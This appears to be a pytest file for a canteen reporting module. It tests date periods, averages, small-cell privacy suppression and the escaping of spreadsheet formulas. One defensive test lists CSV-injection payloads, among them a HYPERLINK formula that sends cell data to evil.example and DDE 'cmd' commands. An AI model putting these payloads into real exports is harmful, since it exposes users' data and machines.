"""The reports' pure rules: periods and buckets, shares and averages, the small-cell rule."""

from __future__ import annotations

from datetime import date

import pytest

from canteen.reports import rules
from canteen.reports.errors import InvalidPeriod, PeriodTooLong
from canteen.reports.rules import Grid, Period


def test_a_period_counts_both_ends_and_refuses_to_run_backwards() -> None:
    assert rules.make(date(2026, 3, 1), date(2026, 3, 1)).days == 1
    assert rules.make(date(2026, 3, 1), date(2026, 4, 30)).days == 61
    with pytest.raises(InvalidPeriod):
        rules.make(date(2026, 3, 2), date(2026, 3, 1))


def test_a_period_lasts_at_most_five_years() -> None:
    start = date(2020, 1, 1)
    longest = rules.make(start, date.fromordinal(start.toordinal() + rules.MAX_DAYS - 1))
    assert longest.days == rules.MAX_DAYS
    with pytest.raises(PeriodTooLong):
        rules.make(start, date.fromordinal(start.toordinal() + rules.MAX_DAYS))


def test_months_are_added_across_years_both_ways() -> None:
    assert rules.add_months(date(2026, 11, 30), 1) == date(2026, 12, 1)
    assert rules.add_months(date(2026, 12, 15), 1) == date(2027, 1, 1)
    assert rules.add_months(date(2026, 1, 31), -1) == date(2025, 12, 1)
    assert rules.add_months(date(2026, 3, 1), -14) == date(2025, 1, 1)
    assert rules.month_start(date(2026, 2, 28)) == date(2026, 2, 1)


def test_a_week_starts_on_its_monday() -> None:
    assert rules.week_start(date(2026, 3, 2)) == date(2026, 3, 2)  # a Monday
    assert rules.week_start(date(2026, 3, 8)) == date(2026, 3, 2)  # the Sunday after
    spring = Period(start=date(2026, 3, 1), end=date(2026, 3, 16))  # a Sunday to a Monday
    assert rules.weeks(spring) == [
        date(2026, 2, 23),
        date(2026, 3, 2),
        date(2026, 3, 9),
        date(2026, 3, 16),
    ]
    assert rules.months(Period(start=date(2025, 12, 31), end=date(2026, 2, 1))) == [
        date(2025, 12, 1),
        date(2026, 1, 1),
        date(2026, 2, 1),
    ]


def test_the_last_months_include_the_current_one() -> None:
    assert rules.last_months(12, date(2026, 4, 10)) == Period(
        start=date(2025, 5, 1), end=date(2026, 4, 10)
    )
    assert rules.last_months(1, date(2026, 4, 10)).start == date(2026, 4, 1)


def test_an_annual_report_is_for_a_sensible_year_and_last_year_until_february() -> None:
    assert rules.report_year(2000) == Period(start=date(2000, 1, 1), end=date(2000, 12, 31))
    assert rules.report_year(2100).end == date(2100, 12, 31)
    for wrong in (1999, 2101):
        with pytest.raises(InvalidPeriod):
            rules.report_year(wrong)
    assert rules.default_year(date(2026, 2, 28)) == 2025
    assert rules.default_year(date(2026, 3, 1)) == 2026


def test_a_period_is_read_from_whole_months_and_the_days_around_them() -> None:
    whole = Period(start=date(2026, 3, 1), end=date(2026, 4, 30))
    assert rules.whole_months(whole) == ((date(2026, 3, 1), date(2026, 5, 1)), [])
    ragged = Period(start=date(2026, 2, 20), end=date(2026, 4, 3))
    assert rules.whole_months(ragged) == (
        (date(2026, 3, 1), date(2026, 4, 1)),
        [
            Period(start=date(2026, 2, 20), end=date(2026, 2, 28)),
            Period(start=date(2026, 4, 1), end=date(2026, 4, 3)),
        ],
    )
    inside = Period(start=date(2026, 3, 2), end=date(2026, 3, 30))
    assert rules.whole_months(inside) == (None, [inside])


def test_shares_and_averages() -> None:
    assert rules.share(1, 4) == 0.25
    assert rules.share(3, 0) is None and rules.share(3, None) is None
    assert rules.per_cover(1000, 3) == 333
    assert rules.per_cover(5, 2) == 3  # 2.5 rounds half up
    assert rules.per_cover(7, 2) == 4  # 3.5 too, never to even
    assert rules.per_cover(1001, 1000) == 1
    assert rules.per_cover(1000, 0) is None
    assert [rules.hours(m) for m in (0, 29, 30, 89, 90, 150)] == [0, 0, 1, 1, 2, 3]


def test_groups_of_one_to_four_are_too_small_to_show() -> None:
    assert rules.THRESHOLD == 5
    assert [rules.is_small(n) for n in (0, 1, 4, 5)] == [False, True, True, False]
    assert not rules.has_small_group([5, 5, 5, 5])
    assert not rules.has_small_group([0, 0, 0, 5])
    assert rules.has_small_group([0, 0, 0, 4])  # four answers in all
    assert rules.has_small_group([3, 5, 5, 5])  # one smiley of three
    assert rules.has_small_group([2, 2, 5, 5])  # two smileys of two (and "not yes" of four)
    assert not rules.has_small_group([0, 6, 0, 6])


def test_a_small_cell_is_hidden_with_a_second_one_so_it_cannot_be_subtracted() -> None:
    grid = Grid()
    for key, count in (("a", 3), ("b", 10), ("c", 7)):
        grid.cell(key, count)
    grid.cell("total", 20)
    grid.add_sum("total", ["a", "b", "c"])
    assert grid.protect() == {"a", "c"}  # the smallest visible part goes with it


def test_a_base_under_five_hides_its_whole_breakdown_but_not_how_many_answered() -> None:
    grid = Grid()
    grid.cell("yes", 0)
    grid.cell("no", 3)
    grid.cell("answers", 3, fixed=True)
    grid.add_sum("answers", ["yes", "no"], base=True)
    hidden = grid.protect()
    assert hidden == {"yes", "no"}
    assert rules.shown(3, "answers", hidden) == 3
    assert rules.shown(0, "yes", hidden) is None


def test_nothing_small_hides_nothing() -> None:
    grid = Grid()
    grid.cell("a", 5)
    grid.cell("b", 0)
    grid.cell("total", 5)
    grid.add_sum("total", ["a", "b"])
    assert grid.protect() == set()


def test_a_sum_whose_other_members_are_always_shown_cannot_be_protected() -> None:
    grid = Grid()
    grid.cell("a", 2)
    grid.cell("b", 9, fixed=True)
    grid.cell("total", 11, fixed=True)
    grid.add_sum("total", ["a", "b"])
    with pytest.raises(ValueError, match="always shown"):
        grid.protect()


@pytest.mark.parametrize(
    "typed",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "  =1+1",
        "\uff1d1+1",
    ],
)
def test_text_a_spreadsheet_would_run_gets_a_leading_quote(typed: str) -> None:
    assert rules.spreadsheet_text(typed) == "'" + typed


def test_ordinary_text_is_left_as_typed() -> None:
    for typed in ("Lyon", "Saint-Étienne", "Café = joie", "", "O'Brien", "42 rue @home"):
        assert rules.spreadsheet_text(typed) == typed
